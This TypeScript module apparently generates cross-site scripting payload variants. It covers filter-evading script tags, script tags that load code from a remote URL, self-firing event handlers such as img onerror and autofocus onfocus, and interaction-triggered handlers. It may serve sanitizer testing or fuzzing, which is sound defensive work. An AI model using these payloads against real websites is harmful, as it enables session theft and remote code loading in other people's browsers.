/** Elements that run, and handlers on elements that do not. */
import type { Family, Maker } from './maker'

const scripts: readonly Maker[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT>${run}</SCRIPT>`,
  (run) => `<script\n>${run}</script\t>`,
  (run) => `<script type="text/javascript">${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script>//<![CDATA[\n${run}//]]></script>`,
  (run) => `<script><!--\n${run}\n--></script>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script defer>${run}</script ignored="yes">`,
  (_run, away) => `<script src="${away}"></script>`,
  (_run, away) => `<script src=//${away.slice('http://'.length)}></script>`,
  (_run, away) => `<script async src='${away}.js'></script>`,
  (run) => `<noscript></noscript><script>${run}</script>`
]

/** Elements that speak up by themselves: tag, what has to stand in it, the event. */
const byThemselves: readonly (readonly [tag: string, more: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['input type=image', 'src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['div', 'tabindex=1 autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['video', 'src=x', 'onerror'],
  ['video', 'src=x', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onloadstart'],
  ['video><source', 'src=x', 'onerror'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['iframe', 'src=x', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['link', 'rel=stylesheet href="data:text/css,"', 'onload'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['script', 'src="data:text/javascript,"', 'onload'],
  ['marquee', '', 'onstart']
]

/** These wait for a hand. */
const byHand: readonly (readonly [tag: string, event: string])[] = [
  ['a', 'onclick'],
  ['b', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['span', 'ondblclick'],
  ['div', 'onwheel'],
  ['form', 'onsubmit'],
  ['input', 'oninput'],
  ['textarea', 'onpaste'],
  ['td', 'oncontextmenu'],
  ['xss', 'onanimationstart'],
  ['div contenteditable', 'onbeforeinput'],
  ['dialog open', 'onclose']
]

const quotes: readonly ((tag: string, more: string, event: string, run: string) => string)[] = [
  (tag, more, event, run) => `<${tag} ${more} ${event}="${run}">`,
  (tag, more, event, run) => `<${tag} ${more} ${event}='${run}'>`,
  (tag, more, event, run) => `<${tag.toUpperCase()} ${more} ${event.toUpperCase()}=${run}>`,
  (tag, more, event, run) => `<${tag}\t${more}\t${event}\t=\t${run}\t>`
]

export const elements: readonly Family[] = [
  { name: 'scripts', makers: scripts },
  { name: 'handlers that speak up', makers: byThemselves.flatMap(([tag, more, event], at) => [at % 4, (at + 1) % 4].map((form): Maker => (run) => (quotes[form] ?? quotes[0])?.(tag, more, event, run) ?? '')) },
  { name: 'handlers that wait', makers: byHand.map(([tag, event]): Maker => (run) => `<${tag} ${event}="${run}">come here</${tag.split(' ')[0]}>`) }
]
